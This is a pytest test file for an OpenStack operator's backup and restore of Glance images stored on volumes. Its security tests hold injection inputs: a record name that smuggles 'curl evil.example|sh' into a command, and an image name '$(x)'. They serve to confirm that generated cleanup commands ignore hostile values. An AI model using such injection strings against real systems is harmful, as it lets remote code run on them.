"""Images on volumes in a backup and a restore."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from openstack_operator import kube
from openstack_operator.kube import HANDED_OVER, secret_data
from openstack_operator.plan import Object, Plan, Release, SpecError, key
from openstack_operator.services.backup import images
from openstack_operator.services.backup.model import BACKUP
from openstack_operator.services.backup.service import plan
from openstack_operator.testing import context
from tests.planning import objects
from tests.unit.services import test_backup as backups
from tests.unit.services import test_backup_restore as restores

GLANCE_UID = 64062
PODS = {kube.KIND: "glance", kube.INSTANCE: "glance", kube.COMPONENT: "api"}
CLAIM: Object = {
    "apiVersion": "v1",
    "kind": "PersistentVolumeClaim",
    "metadata": {"name": "glance-images", "labels": {kube.KIND: "glance", kube.INSTANCE: "glance"}},
    "spec": restores.SIZE,
}
BEFORE = {"snapshot": "1a00", "images": 1, "bytes": 1 << 20, "stored": 1 << 20, "seconds": 9}
AFTER = {"snapshot": "1b00", "images": 2, "bytes": 3 << 20, "stored": 2 << 20, "seconds": 1}
ENTRY = {
    "name": "glance",
    "claim": CLAIM,
    "image": {"nodeSelector": {"tier": "control"}},
    "snapshots": ["1a00", "1b00"],
    "images": 2,
    "bytes": 3 << 20,
}


def glance(*, replicas: int = 1, mode: str = "ReadWriteOnce", volume: str = "images") -> dict[str, Any]:
    security = {"runAsUser": GLANCE_UID, "runAsGroup": GLANCE_UID}
    volumes = [{"name": "config"}, {"name": volume, "persistentVolumeClaim": {"claimName": "glance-images"}}]
    pod_spec = {"containers": [{"image": "glance:2025.1", "securityContext": security}], "volumes": volumes}
    deployment = {
        "metadata": {"name": "glance-api", "labels": PODS},
        "spec": {"replicas": replicas, "selector": {"matchLabels": PODS}, "template": {"spec": pod_spec}},
    }
    claim = {**CLAIM, "spec": {**restores.SIZE, "accessModes": [mode]}}
    return {"name": "glance", "deployments": [deployment], "workloads": [], "claims": [claim], "published": {}}


def backed_up(release: Release, *glances: Any, spec: Mapping[str, Any] | None = None, **changes: Any) -> Plan:
    fields: dict[str, Any] = {
        "owner": "monday",
        "secrets": backups.SECRETS,
        "facts": backups.facts() | {"images": list(glances)},
    }
    return plan(context(BACKUP, backups.SPEC | dict(spec or {}), release=release, **(fields | changes)))


def needs(made: Plan, prefix: str) -> set[str]:
    """Return the names of all steps before that of a job."""
    [job] = [obj for name, obj in backups.jobs(made).items() if name == prefix]
    return restores.needs(restores.step_of(made, job))


def test_mariadb_operator_copies_after_images_that_rows_have(release: Release) -> None:
    made = backed_up(release, facts=backups.facts(backups.delegated()) | {"images": [glance()]})
    (step,) = [step for step in made if step.name == "Copy mariadb"]
    assert "Earlier images glance" in restores.needs(step)


def test_images_are_stored_before_and_after_the_databases(release: Release) -> None:
    made = backed_up(release, glance())
    assert needs(made, "monday-database-mariadb") >= {"Earlier images glance"}
    assert needs(made, "monday-images-glance") >= {"Database mariadb", "Earlier images glance"}
    assert "monday-manifest" not in backups.jobs(made)
    assert {made.condition[step] for step in made if "mages" in step.name} == {"Images"}


def test_the_pod_reads_as_glance_where_its_volume_is(release: Release) -> None:
    spec = backups.jobs(backed_up(release, glance()))["monday-images-glance"]["spec"]["template"]["spec"]
    [main] = spec["containers"]
    assert main["image"] == "mariadb:11.8"
    assert (main["securityContext"]["runAsUser"], spec["securityContext"]["fsGroup"]) == (GLANCE_UID, GLANCE_UID)
    [volume] = [each for each in spec["volumes"] if each["name"] == "images"]
    assert volume["persistentVolumeClaim"] == {"claimName": "glance-images", "readOnly": True}
    assert {"name": "images", "mountPath": "/var/lib/glance", "readOnly": True} in main["volumeMounts"]
    [term] = spec["affinity"]["podAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]
    assert (term["labelSelector"], term["topologyKey"]) == ({"matchLabels": PODS}, "kubernetes.io/hostname")


@pytest.mark.parametrize("changes", [{"replicas": 0}, {"mode": "ReadWriteMany"}])
def test_a_volume_that_no_node_has_alone_is_read_anywhere(release: Release, changes: dict[str, Any]) -> None:
    spec = backups.jobs(backed_up(release, glance(**changes)))["monday-images-glance"]["spec"]["template"]["spec"]
    assert "affinity" not in spec


def test_images_that_are_left_out_are_named(release: Release) -> None:
    made = backed_up(release, glance(), spec={"include": {"images": False}})
    assert not [name for name in backups.jobs(made) if "images" in name]
    missing = secret_data(objects(made)["Secret", "monday-contents"])["missing"].splitlines()
    assert missing[0] == "Glance/glance: images on its volume, since spec.include.images is false"


def test_a_glance_without_a_volume_has_no_images_here(release: Release) -> None:
    made = backed_up(release, glance(volume="cache"))
    assert not [name for name in backups.jobs(made) if "images" in name]


def test_a_backup_waits_for_the_pods_of_a_volume(release: Release) -> None:
    starting = {**glance(), "deployments": []}
    made = backed_up(release, starting)
    [verdict] = [step.verdict for step in made if step.name == "Contents"]
    assert verdict
    assert "Glance/glance" in verdict.message
    assert backups.jobs(backed_up(release, starting, spec={"include": {"images": False}}))


def complete(release: Release) -> tuple[Plan, Mapping[str, Any]]:
    """Return the plan with all results, and the manifest."""
    first = backed_up(release, glance())
    children = backups.kept(first, "monday-contents")
    jobs = backups.jobs(first)
    results = {"database-mariadb": backups.RESULT, "images-before-glance": BEFORE, "images-glance": AFTER}
    pods = [backups.ended(jobs[f"monday-{name}"], result) for name, result in results.items()]
    full = backed_up(release, children=children, pods=pods, facts={})
    run = json.loads(secret_data(objects(full)["Secret", "monday-runs"])["manifest.json"])
    pods.append(backups.ended(backups.jobs(full)["monday-manifest"], backups.END))
    return backed_up(release, children=children, pods=pods, facts={}), run["manifest"]


def test_the_manifest_names_both_snapshots(release: Release) -> None:
    done, manifest = complete(release)
    [entry] = manifest["images"]
    assert {name: entry[name] for name in ("name", "snapshots", "images", "bytes")} == {
        name: ENTRY[name] for name in ("name", "snapshots", "images", "bytes")
    }
    assert done.outcome.details["images"] == [{"name": "glance", "images": 2, "size": "3Mi", "stored": "3Mi"}]
    assert done.outcome.details["size"] == "5Mi"
    last = backed_up(release, facts={}, children=backups.kept(done, "monday-record"))
    assert "Images" in {step.name for step in last}


def restored(release: Release, **changes: Any) -> Plan:
    manifest = {**restores.MANIFEST, "images": [ENTRY]}
    return restores.planned(release, facts=restores.FACTS | {"manifest": manifest}, **changes)


def job_of(made: Plan, part: str) -> Object:
    [job] = [obj for (kind, name), obj in objects(made).items() if kind == "Job" and part in name]
    return job


def test_a_volume_is_filled_before_glance_starts(release: Release) -> None:
    made = restored(release)
    assert HANDED_OVER in objects(made)[key(CLAIM)]["metadata"]["annotations"]
    assert key(restores.SECRET) not in objects(made)
    # The database alone is not enough.
    half = restored(release, pods=[restores.ended(job_of(made, "restore-mariadb"), {"schemas": []})])
    assert key(restores.SECRET) not in objects(half)
    manifest = {**restores.MANIFEST, "images": [ENTRY]}
    full = restores.restored(release, facts=restores.FACTS | {"manifest": manifest})
    assert key(restores.SECRET) in objects(full)
    spec = job_of(made, "restore-images")["spec"]["template"]["spec"]
    [main] = spec["containers"]
    user = release["glance-api"].uid
    assert (main["securityContext"]["runAsUser"], spec["securityContext"]["fsGroup"]) == (user, user)
    assert main["image"] == release["mariadb"].image
    assert spec["nodeSelector"] == {"tier": "control"}
    runs = secret_data(objects(made)["Secret", "fire-runs"])
    assert json.loads(runs["restore-images-glance.json"])["snapshots"] == ["1a00", "1b00"]
    # Rows are compared with the same data.
    assert json.loads(runs["restore-mariadb.json"])["images"] == ["1a00", "1b00"]


def test_rows_and_data_that_do_not_fit_are_reported(release: Release) -> None:
    first = restored(release)
    assert first.outcome.details["images"] is None
    report = {
        "rows": 3,
        "elsewhere": 1,
        "withoutData": {"count": 7, "images": ["a-1", "a-2"]},
        "withoutRow": {"count": 1, "images": ["b-1", "$(x)"]},
    }
    pods = [
        backups.ended(job_of(first, "restore-mariadb"), {"schemas": ["glance"], "images": report}),
        backups.ended(job_of(first, "restore-images"), {"images": 2, "bytes": 3 << 20, "seconds": 1}),
    ]
    assert restored(release, pods=pods).outcome.details["images"] == {
        "restored": 2,
        "size": "3Mi",
        "elsewhere": 1,
        "withoutData": {"count": 7, "images": ["a-1", "a-2"], "command": "openstack image delete a-1 a-2"},
        "withoutRow": {
            "count": 1,
            "images": ["b-1"],
            "command": "kubectl exec -n openstack deploy/glance-api -- rm /var/lib/glance/images/b-1",
        },
    }


def test_a_cloud_without_its_images_is_reported(release: Release) -> None:
    first = restores.planned(release, facts=restores.FACTS)
    report = {"elsewhere": 0, "withoutData": {"count": 1, "images": ["a-1"]}, "withoutRow": {"count": 0}}
    pods = [backups.ended(job_of(first, "restore-mariadb"), {"images": report})]
    told = restores.planned(release, facts=restores.FACTS, pods=pods).outcome.details["images"]
    assert (told["restored"], told["withoutData"]["count"], told["withoutRow"]) == (0, 1, None)


@pytest.mark.security
def test_a_command_has_no_words_of_a_record() -> None:
    report = {"withoutRow": {"count": 1, "images": ["a"]}}
    stored = {"images": {"x -- true; curl evil.example|sh #": {}}, "databases": {"mariadb": {"images": report}}}
    told = images.restored_status("openstack", stored)
    assert told
    assert told["withoutRow"]["command"].startswith("kubectl exec -n openstack deploy/NAME-api -- rm ")


@pytest.mark.security
@pytest.mark.parametrize("changes", [{"snapshots": "1a00"}, {"snapshots": [7]}, {"claim": restores.SECRET}])
def test_an_entry_of_another_program_is_refused(release: Release, changes: dict[str, Any]) -> None:
    manifest = {**restores.MANIFEST, "images": [{**ENTRY, **changes}]}
    with pytest.raises(SpecError, match="the operator cannot read the backup"):
        restores.planned(release, facts={**restores.FACTS, "manifest": manifest})
